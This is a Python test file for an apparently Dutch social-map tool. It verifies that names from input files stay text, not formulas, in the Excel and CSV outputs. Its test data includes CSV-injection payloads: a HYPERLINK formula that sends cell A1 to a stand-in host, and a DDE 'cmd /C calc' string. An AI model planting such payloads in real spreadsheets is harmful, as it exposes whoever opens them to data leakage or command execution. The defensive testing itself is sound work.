"""Cells that are safe to open: no name from an input file opens as a formula in Excel.

Boundary, layout and registration files whose names carry the usual injection strings go
through a whole run; the XLSX is read back with openpyxl and the CSVs with the csv module.
"""

from __future__ import annotations

import csv
import re

import geopandas as gpd
import openpyxl

from sociale_kaart.products import make
from sociale_kaart.settings import LayoutSpec, RunSettings, Sources

INJECTIONS = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik")', "+1", "-2+3", "@SUM(A1)", "=1+1",
              "\tTab", "\rCR"]
STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(,\d+)?$")


def test_injection_strings_from_every_input_stay_text(sample_paths, tmp_path):
    grenzen = tmp_path / "grenzen_2024.gpkg"
    buurten = gpd.read_file(sample_paths["grenzen"], layer="buurten")
    wijken = gpd.read_file(sample_paths["grenzen"], layer="wijken")
    buurten["buurtnaam"] = [INJECTIONS[i % len(INJECTIONS)] for i in range(len(buurten))]
    wijken["wijknaam"] = [INJECTIONS[i % len(INJECTIONS)] for i in range(len(wijken))]
    buurten.to_file(grenzen, layer="buurten", driver="GPKG")
    wijken.to_file(grenzen, layer="wijken", driver="GPKG")
    codes = list(buurten["buurtcode"])
    layout = tmp_path / "indeling.csv"
    layout.write_text("buurtcode;gebied\n" + "".join(f"{c};{INJECTIONS[i % 4]}\n" for i, c in enumerate(codes)),
                      encoding="utf-8")
    registration = tmp_path / "meldingen_2024.csv"
    categories = ["=cmd|' /C calc'!A0", "-Wmo", "@Jeugd"]
    registration.write_text("buurtcode;voorziening\n" + "".join(f"{c};{categories[i % 3]}\n"
                                                              for i, c in enumerate(codes * 4)), encoding="utf-8")
    out = tmp_path / "uit"
    settings = RunSettings(sources=Sources(grenzen=grenzen, kwb=sample_paths["kwb"], registraties=(registration,)),
                           layouts=(LayoutSpec(name="-Eigen", source=layout),), output=out, quiet=True)
    make(settings, products=("tabellen",))

    workbooks = sorted(out.rglob("*.xlsx"))
    assert workbooks
    texts = []
    for path in workbooks:
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
    # the names are there, as text: in the buurten, wijken and definitions sheets
    assert {INJECTIONS[0], "+1", "-2+3", "@SUM(A1)"} <= set(texts)
    assert any(t.startswith("=cmd") or t.startswith("-Wmo") or t.startswith("@Jeugd") for t in texts), "labels"

    tables = sorted(out.rglob("*.csv"))
    assert any("indeling" in p.name for p in tables)
    neutralised = set()
    for path in tables:
        with open(path, encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle, delimiter=";"):
                for cell in row:
                    if cell.startswith(STARTS):
                        assert NUMBER.match(cell), (path.name, cell)  # a negative number stays a number
                    if cell.startswith("'"):
                        neutralised.add(cell[1:])
    assert {INJECTIONS[0], "+1", "-2+3", "@SUM(A1)"} <= neutralised  # (readers strip a leading tab or CR)


def test_safe_frame_neutralises_text_and_leaves_numbers():
    import numpy as np
    import pandas as pd

    from sociale_kaart.outputs import safe_frame

    frame = pd.DataFrame({"naam": ["=1+1", "\tx", "\ry", "-a", "Oost", None], "n": [-2.5, 1, 0, np.nan, 3, 4],
                          "@kolom": ["+31", "a", "b", "c", "d", "e"]})
    out = safe_frame(frame)
    assert out["naam"].tolist()[:5] == ["'=1+1", "'\tx", "'\ry", "'-a", "Oost"] and out["naam"].isna().iloc[5]
    assert out["n"].equals(frame["n"]) and list(out.columns) == ["naam", "n", "'@kolom"]
    assert out["'@kolom"].iloc[0] == "'+31"
